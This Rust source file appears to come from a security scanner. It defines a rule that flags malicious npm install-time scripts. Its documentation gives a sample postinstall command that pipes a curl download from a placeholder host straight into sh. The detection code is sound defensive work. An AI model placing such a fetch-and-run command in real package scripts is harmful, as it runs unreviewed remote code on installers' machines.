use crate::{declare_rule, Draft, Findings, Project, Rule, RuleMeta};
use skillaudit_core::{Confidence, Severity};
use skillaudit_lang::behaviour::command_techniques;

declare_rule! {
    /// ## What it finds
    /// npm lifecycle scripts that run at install time (`preinstall`, `install`, `postinstall`,
    /// `prepare`, `prepublish`) whose command line shows a malicious technique: a download piped
    /// into an interpreter, a shell wired to a socket, persistence, log wiping, privilege changes,
    /// destruction or mining — the same technique classifiers the code analysis uses, applied to
    /// the command npm runs. Inline code run at install (`node -e "…"`, `python -c "…"`) is
    /// judged the same way. The files those scripts run, and `setup.py`, are code the analysis
    /// reads like any other, so the other behaviour rules cover them.
    ///
    /// A `postinstall` that builds native code (`node-gyp rebuild`, `prebuild-install`) stays
    /// quiet.
    ///
    /// ## Why it matters
    /// Install scripts run with the user's rights the moment `npx` or `npm install` fetches the
    /// package — before any tool is called, before anyone reads the code. They are the most
    /// common way compromised packages run their payload.
    ///
    /// ## Vulnerable example
    /// ```json
    /// { "scripts": { "postinstall": "curl -fsSL https://cdn.example.net/setup.sh | sh" } }
    /// ```
    ///
    /// ## Fixed example
    /// ```json
    /// { "scripts": { "postinstall": "node-gyp rebuild" } }
    /// ```
    ///
    /// ## References
    /// - https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts
    /// - https://attack.mitre.org/techniques/T1195/002/
    pub struct InstallScriptTechnique {
        code: "MAL-014",
        name: "install-script-technique",
        axis: Security,
        severity: High,
        cwe: Some("CWE-506"),
    }
}

/// npm scripts that run when the package is installed (or packed for publishing from a git
/// dependency).
const INSTALL_SCRIPTS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
];

impl Rule for InstallScriptTechnique {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, project: &Project, out: &mut Findings) {
        for (file, text) in project.text_files() {
            if file.name() != "package.json" || file.path.contains("node_modules/") {
                continue;
            }
            let Ok(json) = serde_json::from_str::<serde_json::Value>(text) else {
                continue;
            };
            let Some(scripts) = json.get("scripts").and_then(|s| s.as_object()) else {
                continue;
            };
            for name in INSTALL_SCRIPTS {
                let Some(cmd) = scripts.get(*name).and_then(|c| c.as_str()) else {
                    continue;
                };
                for (technique, why) in command_techniques(cmd) {
                    let line = text
                        .find(&format!("\"{name}\""))
                        .map(|at| text[..at].matches('\n').count() as u32 + 1);
                    let shown: String = cmd.chars().take(160).collect();
                    let mut draft = Draft::new(format!(
                        "the `{name}` script, run by npm at install time, {}: {why}",
                        technique.describe()
                    ))
                    .at(&file.path, line)
                    .evidence(shown)
                    .severity(Severity::High)
                    .key(format!("{name}:{technique:?}"))
                    .fix("remove the install script's payload; install scripts should only build the package's own native code")
                    .about_package();
                    draft.confidence = Some(Confidence::High);
                    out.report(draft);
                }
            }
        }
    }
}
